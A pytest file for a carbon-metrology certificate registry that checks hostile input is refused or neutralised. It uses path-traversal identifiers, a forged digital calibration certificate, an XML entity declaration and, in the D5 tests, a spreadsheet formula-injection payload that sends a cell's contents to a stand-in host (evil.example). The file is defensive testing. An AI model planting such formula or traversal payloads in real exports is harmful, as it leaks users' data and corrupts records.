"""Issue 10: hostile registry input — one identifier rule, finite numbers, k ≥ 1, a date window, a safe
spreadsheet writer and DCC trust. Each test is named after the defect it guards (D3/D17, D4, D5, D6, D10,
D13, D14)."""

from __future__ import annotations

import csv
import math
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError
from sqlalchemy import Engine, select

from carbonmet.db import session_scope, verify
from carbonmet.quantities.rules import check_code, check_coverage_factor, spreadsheet_text
from carbonmet.registry import ImportRejected, export_csv, export_dcc, export_xlsx, import_dcc, import_file
from carbonmet.registry.dcc import DccError, read_dcc
from carbonmet.registry.errors import FieldError
from carbonmet.registry.models import Certificate, Organisation
from carbonmet.registry.rows import CertificateRow, InstrumentRow, OrganisationRow, PointRow, SiteRow
from carbonmet.sites import PlanParameterRow

CAL = {"cert_no": "C-1", "kind": "calibration", "subject": "FM1", "issuer_org": "ORD",
       "calibration_date": "2024-05-01", "U": 0.5, "k": 2}


def _write_csv(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def _problems(exc: pytest.ExceptionInfo[ImportRejected]) -> list[tuple[int, str, str]]:
    return [(p.row, p.field, p.reason) for p in exc.value.problems]


# --- D3 / D17: dates in a sane window ------------------------------------------------------------------
@pytest.mark.parametrize("field", ["valid_until", "calibration_date", "issue_date"])
@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
def test_D17_certificate_dated_9999_or_0001_is_refused(field: str, day: str) -> None:
    data = {**CAL, field: day}
    if field != "calibration_date":
        data["calibration_date"] = "2024-05-01"
    with pytest.raises(ValidationError) as exc:
        CertificateRow(**data)
    err = exc.value.errors()[0]
    assert err["loc"] == (field,) and "1950-01-01" in err["msg"] and "2199-12-31" in err["msg"]


def test_D17_registry_import_names_file_row_and_field_of_a_9999_date(sample: Engine, tmp_path: Path) -> None:
    f = _write_csv(tmp_path / "certificates.csv", list(CAL) + ["valid_until"],
                   [[*CAL.values(), "2025-05-01"], [*{**CAL, "cert_no": "C-2"}.values(), "9999-12-31"]])
    with pytest.raises(ImportRejected) as exc:
        import_file(sample, f)
    [(row, field, reason)] = _problems(exc)
    assert (row, field) == (3, "valid_until") and "9999-12-31" in reason
    with session_scope(sample) as s:  # all or nothing: C-1 was not stored either
        assert s.scalar(select(Certificate).where(Certificate.cert_no == "C-1")) is None


# --- D4: one identifier rule ----------------------------------------------------------------------------
@pytest.mark.parametrize("code", ["../evil", "E01/../../x", "..", "a..b", "/abs", "E 01", "-E01", ".hidden",
                                  "E01\x00", "x" * 97])
def test_D4_point_id_site_and_org_code_with_dotdot_are_refused(code: str) -> None:
    with pytest.raises(ValueError):
        check_code(code)
    with pytest.raises(ValidationError, match="org_code"):
        OrganisationRow(org_code=code, name="n", kind="enterprise")
    with pytest.raises(ValidationError, match="site_code"):
        SiteRow(site_code=code, org_code="E01", name="n")
    with pytest.raises(ValidationError, match="point_id"):
        PointRow(point_id=code, site_code="E01-S1", name="n", quantity="mass", carrier="coal", unit="t",
                 reading_kind="total")
    with pytest.raises(ValidationError, match="site_code"):
        PlanParameterRow(site_code=code, emission_source="boiler", source_stream="coal", parameter="activity_data",
                         unit="t", source="point", ref="E01.COAL", frequency="continuous", responsible="x")


def test_D4_codes_of_the_sample_registry_pass_the_rule() -> None:
    for code in ("E01", "E01-S1", "E01.NG_IN", "PRI-FLOW", "a" * 96, "1.2.3"):
        assert check_code(code) == code


def test_D4_registry_import_of_a_dotdot_point_names_row_and_field(sample: Engine, tmp_path: Path) -> None:
    f = _write_csv(tmp_path / "points.csv",
                   ["point_id", "site_code", "name", "quantity", "carrier", "unit", "reading_kind"],
                   [["../../escape", "E01-S1", "x", "mass", "coal", "t", "total"]])
    with pytest.raises(ImportRejected) as exc:
        import_file(sample, f)
    [(row, field, reason)] = _problems(exc)
    assert (row, field) == (2, "point_id") and "'..'" in reason or "letters" in reason


# --- D5: one safe spreadsheet writer ------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _add_org(engine: Engine, tmp_path: Path, name: str) -> None:
    import_file(engine, _write_csv(tmp_path / "organisations.csv", ["org_code", "name", "kind"],
                                   [["EVIL", name, "enterprise"]]))


@pytest.mark.parametrize("text", ["=x", "''=x", "'x", "-", "plain", "", "\tTAB", "＝1"])
def test_D5_spreadsheet_escape_reads_back_exactly(text: str) -> None:
    from carbonmet.quantities.rules import unescape_spreadsheet_text

    assert unescape_spreadsheet_text(spreadsheet_text(text)) == text
    assert not spreadsheet_text(text).lstrip("'").startswith(("=", "+", "-", "@", "\t", "＝")) or \
        spreadsheet_text(text).startswith("'")


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1)"])
def test_D5_registry_export_csv_escapes_formula_text_and_reimports_it(sample: Engine, tmp_path: Path,
                                                                       text: str) -> None:
    _add_org(sample, tmp_path, text)
    out = tmp_path / "out" / "organisations.csv"
    out.parent.mkdir()
    with session_scope(sample) as s:
        export_csv(s, "organisations", out)
    with open(out, encoding="utf-8") as fh:
        cells = {r["org_code"]: r["name"] for r in csv.DictReader(fh)}
    assert cells["EVIL"] == "'" + text and not cells["EVIL"].startswith(("=", "+", "-", "@"))
    assert all(not v.startswith(("=", "+", "@")) for v in cells.values())
    # the export re-imports to the same name (the row models read the escape back)
    with session_scope(sample) as s:
        s.execute(Organisation.__table__.update().where(Organisation.code == "EVIL").values(name="changed"))
    import_file(sample, out)
    with session_scope(sample) as s:
        assert s.scalar(select(Organisation.name).where(Organisation.code == "EVIL")) == text


def test_D5_registry_export_xlsx_writes_no_formula(sample: Engine, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _add_org(sample, tmp_path, FORMULA)
    out = tmp_path / "registry.xlsx"
    with session_scope(sample) as s:
        export_xlsx(s, out)
    wb = load_workbook(out)
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    names = [r[1] for r in wb["organisations"].iter_rows(values_only=True)]
    assert "'" + FORMULA in names


def test_D5_a_dcc_identifier_that_looks_like_a_formula_is_exported_escaped(sample: Engine, tmp_path: Path) -> None:
    with session_scope(sample) as s:
        xml = export_dcc(s, "ORD-2024-FM1")
    evil = "=1+2"
    xml = xml.replace(b">ORD-2024-FM1<", f">{evil}<".encode())
    with session_scope(sample) as s:
        import_dcc(s, xml)
    out = tmp_path / "certificates.csv"
    with session_scope(sample) as s:
        export_csv(s, "certificates", out)
    with open(out, encoding="utf-8") as fh:
        nos = [r["cert_no"] for r in csv.DictReader(fh)]
    assert "'" + evil in nos and evil not in nos
    assert spreadsheet_text(evil) == "'" + evil


# --- D6: a DCC never takes over another record ----------------------------------------------------------
@pytest.mark.parametrize(("cert_no", "holder"), [("ORD-2024-FM2", "FM2"), ("ORD-JD-2024-BS1", "BS1"),
                                                  ("NIM-2024-01", "PRI-FLOW")])
def test_D6_dcc_with_the_number_of_another_certificate_is_refused(sample: Engine, cert_no: str,
                                                                  holder: str) -> None:
    with session_scope(sample) as s:
        xml = export_dcc(s, "ORD-2024-FM1")  # a DCC of FM1 …
        before = {c.cert_no: (c.instrument_id, c.standard_id, c.kind, c.conclusion)
                  for c in s.scalars(select(Certificate))}
    forged = xml.replace(b">ORD-2024-FM1<", f">{cert_no}<".encode())  # … carrying another certificate's number
    with pytest.raises(FieldError) as exc, session_scope(sample) as s:
        import_dcc(s, forged)
    assert exc.value.field == "dcc:coreData/dcc:uniqueIdentifier" and holder in exc.value.reason
    with session_scope(sample) as s:
        after = {c.cert_no: (c.instrument_id, c.standard_id, c.kind, c.conclusion)
                 for c in s.scalars(select(Certificate))}
        assert after == before
        assert all(not (kind == "calibration" and concl) for _, _, kind, concl in after.values())


def test_D6_reimporting_a_dcc_of_the_same_instrument_still_updates_it(sample: Engine) -> None:
    with session_scope(sample) as s:
        xml = export_dcc(s, "ORD-2024-FM1")
    with session_scope(sample) as s:
        cert, _ = import_dcc(s, xml)
        assert cert.cert_no == "ORD-2024-FM1" and cert.instrument.code == "FM1"


# --- D10: finite numbers, k >= 1, NaN never reaches the database --------------------------------------
@pytest.mark.parametrize("text", ["inf", "-inf", "Infinity", "nan", "NaN"])
def test_D10_non_finite_numbers_are_refused_in_registry_rows(text: str) -> None:
    with pytest.raises(ValidationError):
        CertificateRow(**{**CAL, "U": text})
    with pytest.raises(ValidationError):
        CertificateRow(**{**CAL, "as_found_error": text})
    with pytest.raises(ValidationError):
        InstrumentRow(serial="S", org_code="E01", type="t", range_low=0, range_high=text)


@pytest.mark.parametrize("k", [0.5, 0.99, 0.0, math.inf, math.nan])
def test_D10_k_below_1_is_refused_by_registry_import_and_dcc_alike(sample: Engine, k: float) -> None:
    with pytest.raises(ValueError) as shared:
        check_coverage_factor(k)
    with pytest.raises(ValidationError) as row:
        CertificateRow(**{**CAL, "k": k})
    assert row.value.errors()[0]["loc"] == ("k",)
    reason = row.value.errors()[0]["msg"]
    with session_scope(sample) as s:
        xml = export_dcc(s, "ORD-2024-FM1")
    bad = xml.replace(b"<si:coverageFactor>2</si:coverageFactor>", f"<si:coverageFactor>{k}</si:coverageFactor>".encode())
    bad = bad.replace(b"<si:coverageFactor>2.0</si:coverageFactor>", f"<si:coverageFactor>{k}</si:coverageFactor>".encode())
    assert bad != xml
    with pytest.raises(DccError) as dcc:
        read_dcc(bad)
    if math.isfinite(k):  # the same rule says the same thing at both doors
        assert "below 1" in str(shared.value) and "below 1" in reason and "below 1" in str(dcc.value)


def test_D10_registry_import_with_nan_fields_is_refused_and_verify_stays_clean(engine: Engine, sample_files: list[Path],
                                                                              tmp_path: Path) -> None:
    from carbonmet.registry import import_files

    import_files(engine, sample_files, actor="test")
    f = _write_csv(tmp_path / "instruments.csv", ["serial", "org_code", "type", "mpe_rel", "range_low", "range_high"],
                   [["NAN-1", "E01", "gas_flow_meter", "nan", "0", "inf"]])
    with pytest.raises(ImportRejected) as exc:
        import_file(engine, f)
    assert {p[1] for p in _problems(exc)} >= {"range_high"}
    with session_scope(engine) as s:
        assert verify(s).ok


# --- D13: an over-long DCC identifier is a clear error --------------------------------------------------
def test_D13_dcc_identifier_over_96_characters_is_a_field_error(sample: Engine) -> None:
    with session_scope(sample) as s:
        xml = export_dcc(s, "ORD-2024-FM1")
    long_id = "X" * 120
    with pytest.raises(FieldError) as exc, session_scope(sample) as s:
        import_dcc(s, xml.replace(b">ORD-2024-FM1<", f">{long_id}<".encode()))
    assert exc.value.field == "dcc:dcc:coreData/dcc:uniqueIdentifier" or "uniqueIdentifier" in exc.value.field
    assert "96" in exc.value.reason


# --- D14: nothing silently wrong ------------------------------------------------------------------------
@pytest.mark.parametrize("value", [0, "0", 20240501, 0.0])
def test_D14_calibration_date_0_is_refused_not_1970(value: object) -> None:
    with pytest.raises(ValidationError) as exc:
        CertificateRow(**{**CAL, "calibration_date": value})
    assert exc.value.errors()[0]["loc"] == ("calibration_date",)
    assert CertificateRow(**CAL).calibration_date == date(2024, 5, 1)


def test_D14_unresolved_entity_in_certificate_number_is_refused(sample: Engine) -> None:
    with session_scope(sample) as s:
        xml = export_dcc(s, "ORD-2024-FM1")
    head, _, body = xml.partition(b"?>")
    doc = head + b'?>\n<!DOCTYPE x [<!ENTITY suffix "-A">]>' + body.replace(b">ORD-2024-FM1<", b">ORD-2024&suffix;<")
    with pytest.raises(DccError, match="entity") as exc:
        read_dcc(doc)
    assert "uniqueIdentifier" in str(exc.value)


def test_D14_second_unique_identifier_is_refused(sample: Engine) -> None:
    with session_scope(sample) as s:
        xml = export_dcc(s, "ORD-2024-FM1")
    two = xml.replace(b"<dcc:uniqueIdentifier>ORD-2024-FM1</dcc:uniqueIdentifier>",
                      b"<dcc:uniqueIdentifier>ORD-2024-FM1</dcc:uniqueIdentifier>"
                      b"<dcc:uniqueIdentifier>ORD-2024-FM2</dcc:uniqueIdentifier>")
    assert two != xml
    with pytest.raises(DccError, match="uniqueIdentifier") as exc:
        read_dcc(two)
    assert "2 times" in str(exc.value)


def test_D17_certificate_dates_stored_before_the_window_do_not_break_coverage_due_list_or_trace(sample: Engine) -> None:
    """A registry written before the date window existed (or by code that writes the ORM directly): a validity end
    of 9999-12-31 and a calibration dated 9999 whose validity end, date + interval, lies beyond the calendar.
    Coverage, the due list, reverse traceability and the point catalogue saturate at the calendar's end."""
    import json

    from typer.testing import CliRunner

    from carbonmet.cli import app
    from carbonmet.registry import catalog_from_registry
    from carbonmet.registry.rules import add_months, certificate_valid_until

    with session_scope(sample) as s:
        s.scalars(select(Certificate).where(Certificate.cert_no == "ORD-2025-FM1")).one().valid_until = date.max
        s.scalars(select(Certificate).where(Certificate.cert_no == "ORD-2025-FM3")).one().calibration_date = \
            date(9999, 6, 1)
        fm3 = s.scalars(select(Certificate).where(Certificate.cert_no == "ORD-2025-FM3")).one()
        assert add_months(date(9999, 6, 1), 12) == date.max and certificate_valid_until(fm3, 12) == date.max
        cat = catalog_from_registry(s)
        [fm1] = cat["E01.NG_IN"].instruments
        assert fm1.certificates[-1] == ("ORD-2025-FM1", date(2025, 9, 1), date.max)
    db = sample.url.render_as_string(hide_password=False)
    runner = CliRunner()

    def run(*args: str) -> Any:
        res = runner.invoke(app, [*args, "--db", db, "--json"])
        assert res.exit_code == 0 and res.exception is None, res.output
        return json.loads(res.stdout)

    cov = run("registry", "coverage", "E01.NG_IN", "--from", "2025-01-01", "--to", "9999-12-31")
    assert cov["covered"] is True and "ORD-2025-FM1" in cov["certificates"]
    cov = run("registry", "coverage", "E01.STEAM", "--from", "2025-01-01", "--to", "9999-12-31")
    assert cov["covered"] is False and cov["gaps"] == [{"start": "2025-07-01", "end": "9999-06-01"}]  # ORD-2023-FM3 ends
    due = run("registry", "due", "--within", "3m", "--today", "2030-01-01")
    assert {i["instrument"] for i in due} >= {"FM2", "BS1"} and not {"FM1", "FM3"} & {i["instrument"] for i in due}
    everything = run("registry", "due", "--within", "999999999d", "--today", "2030-01-01")
    assert {"FM1", "FM3"} <= {i["instrument"] for i in everything}
    trace = run("registry", "trace-back", "WRK-FLOW", "--from", "2025-01-01", "--to", "2025-12-31")
    assert any(c["cert_no"] == "ORD-2025-FM1" for c in trace["certificates"])
